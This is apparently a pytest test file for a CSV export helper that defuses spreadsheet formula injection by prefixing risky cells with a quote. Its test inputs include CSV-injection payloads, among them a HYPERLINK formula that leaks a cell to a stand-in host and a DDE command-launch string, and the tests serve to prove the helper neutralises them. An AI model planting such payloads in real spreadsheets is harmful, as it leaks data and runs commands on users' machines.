"""Formula-safe CSV: cells that a spreadsheet would run as formulas are neutralised."""

import csv
import datetime
import decimal
import io

import pytest

from medmissions.lib.csv import csv_response, safe_cell, write_rows


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_starting_a_formula_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Nadia Okafor", "O'Brien", "Zoë = 1", " =1+1", "", "a-b"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_numbers_dates_booleans_and_none_are_written_as_values():
    assert safe_cell(-5) == -5
    assert safe_cell(decimal.Decimal("-1.5")) == decimal.Decimal("-1.5")
    assert safe_cell(datetime.date(2027, 3, 1)) == "2027-03-01"
    assert safe_cell(True) == "yes"
    assert safe_cell(None) == ""


def test_write_rows_writes_the_header_and_every_row_and_counts_the_rows():
    stream = io.StringIO()
    written = write_rows(stream, ["Name", "Expires"], [["=evil()", datetime.date(2027, 1, 2)], ["Ann", None]])
    assert written == 2
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [
        ["Name", "Expires"],
        ["'=evil()", "2027-01-02"],
        ["Ann", ""],
    ]


def test_separators_quotes_and_newlines_inside_cells_survive_a_round_trip():
    stream = io.StringIO()
    write_rows(stream, ["Note"], [['Says "hello", then\nleaves']])
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [["Note"], ['Says "hello", then\nleaves']]


def test_the_response_is_a_utf8_attachment_with_a_byte_order_mark():
    response = csv_response("people.csv", ["Name"], [["Zoë"], ["=1+1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="people.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["Name"], ["Zoë"], ["'=1+1"]]
